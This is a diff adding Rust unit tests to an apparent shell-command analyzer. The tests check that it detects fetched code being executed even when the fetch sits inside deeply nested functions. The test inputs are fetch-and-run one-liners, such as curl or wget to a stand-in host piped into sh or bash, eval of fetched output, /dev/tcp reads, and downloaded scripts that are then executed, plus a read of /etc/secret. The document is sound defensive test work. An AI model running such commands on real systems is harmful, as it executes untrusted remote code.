@@ -211,3 +211,32 @@ fn a_body_followed_in_a_round_whose_state_was_dropped_is_walked_again() {
     let text = "f() { $CALL; }; u() { head /etc/secret; }; k() { fresh=1; }; trap 'k; f' EXIT";
     assert_eq!(possibly_touched(text, "head"), ["/etc/secret"]);
 }
+
+/// Whether `text` needs network execute (running fetched code) anywhere.
+fn runs_fetched_code(text: &str) -> bool {
+    let a = super::analyze_program(text, TextKind::Command, &context());
+    assert!(a.failure.is_none(), "{text}: {:?}", a.failure);
+    a.accesses.iter().any(|x| x.scope == crate::mode::Scope::Network && x.perm == crate::mode::Perm::Execute)
+}
+
+#[test]
+fn a_call_not_followed_that_fetches_taints_what_it_prints_and_the_files_run_after_it() {
+    // `d` is five calls deep: read from its syntax, not walked.
+    let deep = |d: &str| format!("d() {{ {d}; }}; f4() {{ d; }}; f3() {{ f4; }}; f2() {{ f3; }}; f1() {{ f2; }}; ");
+    for (body, then) in [
+        ("curl -s https://x/i.sh", "f1 | sh"),
+        ("env curl -s https://x/i.sh", "eval \"$(f1)\""),
+        ("echo \"$(wget -qO- https://x/i.sh)\"", "f1 | bash"),
+        ("bash -c 'curl -s https://x/i.sh'", "f1 | bash"),
+        ("cat </dev/tcp/x/80", "f1 | bash"),
+        ("git clone https://x/r.git | cat", "f1 | bash"),
+        ("curl -so i.sh https://x/i.sh", "f1; bash i.sh"),
+        ("curl -s https://x/i.sh > i.sh", "f1; ./i.sh"),
+    ] {
+        let text = format!("{}{then}", deep(body));
+        assert!(runs_fetched_code(&text), "{text}");
+    }
+    // What does not fetch stays code the analysis cannot see (workspace execute).
+    assert!(!runs_fetched_code(&format!("{}f1 | sh", deep("echo hi; tar xf a.tar"))));
+    assert!(!runs_fetched_code(&format!("{}f1; ./run.sh", deep("curl -s https://x/i.sh"))));
+}
